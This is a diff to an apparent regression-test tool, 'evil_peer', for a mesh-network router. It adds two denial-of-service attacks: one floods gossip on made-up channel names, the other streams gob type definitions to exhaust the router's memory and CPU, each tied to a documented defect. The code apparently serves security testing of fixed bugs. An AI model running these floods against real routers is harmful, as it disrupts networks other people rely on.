@@ -12,6 +12,9 @@ up, so a test can tell what happened; it exits 0 unless it could not connect.
 Attacks:
     poison-topology --address ADDR...   topology gossip in which we have connections to
                                         made-up peers at ADDR (the router dials them)
+    flood-channels --count N            gossip once on each of N made-up channel names
+    gob-flood --megabytes M             (with --max-version 1) gob type definitions in a
+                                        loop, as long as the router reads them
 """
 
 from __future__ import annotations
@@ -87,12 +90,13 @@ class Session:
         return True
 
 
-def connect(router: str, port: int, nickname: str, name: int | None = None) -> Session:
+def connect(router: str, port: int, nickname: str, name: int | None = None, max_version: int = 2,
+            password: bytes | None = None) -> Session:
     name = name if name is not None else random_peer_name()
     uid = secrets.randbits(63) + 1
     sock = socket.create_connection((router, port), timeout=10)
     hs = Handshake(outbound=True, local=PeerIdentity(name, nickname, uid), conn_id=secrets.randbits(64),
-                   overlays=("sleeve",))
+                   overlays=("sleeve",), max_version=max_version, password=password)
     sock.sendall(hs.initiate())
     while not hs.complete:
         data = sock.recv(65536)
@@ -141,6 +145,52 @@ def poison_topology(session: Session, opts: argparse.Namespace) -> None:
         print("closed by router", flush=True)
 
 
+def _flood_options(p: argparse.ArgumentParser) -> None:
+    p.add_argument("--count", type=int, default=70, help="made-up channel names to gossip on")
+    p.add_argument("--hold", type=float, default=2.0, help="seconds to stay connected afterwards")
+
+
+@attack("flood-channels", _flood_options)
+def flood_channels(session: Session, opts: argparse.Namespace) -> None:
+    """Issue 12 defect 3: made-up channel names used to fill the router's one table of
+    unknown channels for good, and then it closed honest peers relaying new ones."""
+    me = PeerSummary(session.name, session.nickname, session.uid, 1)
+    session.heartbeats()
+    session.gossip("topology", encode_topology([(me, [session.link_to_router()])]))
+    for i in range(opts.count):
+        session.gossip(f"made-up-{i}-{secrets.token_hex(4)}", b"junk")
+    print("sent", flush=True)
+    if not session.hold(opts.hold):
+        print("closed by router", flush=True)
+
+
+def _gob_options(p: argparse.ArgumentParser) -> None:
+    p.add_argument("--megabytes", type=float, default=8.0, help="definitions to send at most")
+
+
+@attack("gob-flood", _gob_options)
+def gob_flood(session: Session, opts: argparse.Namespace) -> None:
+    """Issue 12 defect 6: a v1 peer sending gob type definitions in a loop grew the router
+    by ~180 MB with quadratic CPU (the definitions are in clear, before any decryption)."""
+    from tests.gobflood import definition_flood
+
+    sent, goal, next_id = 0, int(opts.megabytes * 1e6), 1000
+    session.sock.settimeout(20)
+    try:
+        while sent < goal:
+            chunk = definition_flood(4000, first=next_id)
+            session.sock.sendall(chunk)
+            sent += len(chunk)
+            next_id += 4000
+        while session.sock.recv(65536):
+            pass
+        print("closed by router after", sent, "bytes", flush=True)
+    except (BrokenPipeError, ConnectionResetError):
+        print("closed by router after", sent, "bytes", flush=True)
+    except TimeoutError:
+        print("open after", sent, "bytes", flush=True)
+
+
 def main(argv: list[str] | None = None) -> int:
     p = argparse.ArgumentParser(prog="evil_peer", description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
@@ -148,11 +198,14 @@ def main(argv: list[str] | None = None) -> int:
     p.add_argument("--port", type=int, default=6783)
     p.add_argument("--name", default="", help="our peer name (default: random)")
     p.add_argument("--nickname", default="evil")
+    p.add_argument("--max-version", type=int, default=2, help="highest protocol version to offer")
+    p.add_argument("--password", default="", help="the mesh password to use (default: none)")
     sub = p.add_subparsers(dest="attack", required=True)
     for name, (_, options) in ATTACKS.items():
         options(sub.add_parser(name))
     opts = p.parse_args(argv)
-    session = connect(opts.router, opts.port, opts.nickname, parse_peer_name(opts.name) if opts.name else None)
+    session = connect(opts.router, opts.port, opts.nickname, parse_peer_name(opts.name) if opts.name else None,
+                      opts.max_version, opts.password.encode() or None)
     print("connected to", format_peer_name(session.router_name), flush=True)
     fn, _ = ATTACKS[opts.attack]
     try:
